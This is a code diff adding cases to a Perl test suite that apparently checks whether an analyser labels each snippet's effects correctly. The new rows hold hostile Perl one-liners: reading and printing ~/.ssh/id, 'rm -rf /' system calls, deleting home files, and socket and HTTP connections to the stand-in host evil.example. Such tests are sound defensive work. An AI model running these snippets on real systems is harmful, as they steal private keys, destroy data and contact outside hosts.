@@ -22,6 +22,18 @@ class PerlTest {
             read x | open(my $f, '<', 'x');
             write x | open(F, ">x");
             shell rm x | open(F, "rm x|");
+            read ~/.ssh/id | open F, "<", $ENV{HOME} . "/.ssh/id"; print <F>
+            read ~/.ssh/id | open F, $ENV{HOME} . "/.ssh/id" or die "no";
+            delete ~/x; 1 unknown | $x and unlink $ENV{HOME} . "/x" or die;
+            shell rm -rf / | system "rm -rf " . "/" if 1;
+            shell rm -rf / | my $s = "rm"; system $s . " -rf " . "/" || die;
+            run [rm, -rf, ?] | system "rm", "-rf", $h->{x};
+            speak evil.example:443 | IO::Socket::INET->new("evil.example:443");
+            speak evil.example:443 | my $s = IO::Socket::INET->new("evil.example:443") or die;
+            speak evil.example:80 | IO::Socket::INET->new(PeerAddr => "evil.example", PeerPort => 80);
+            speak evil.example:80 | my $s = new IO::Socket::INET("evil.example:80");
+            speak http://evil.example/ | LWP::UserAgent->new->get("http://evil.example/");
+            speak http://evil.example/ | my $ua = LWP::UserAgent->new(timeout => 3); $ua->get("http://evil.example/");
             run [rm, x] | open(my $f, '-|', 'rm', 'x');
             delete all /srv | use File::Path; File::Path::rmtree('/srv');
             shell rm -rf / | system("rm -rf /");
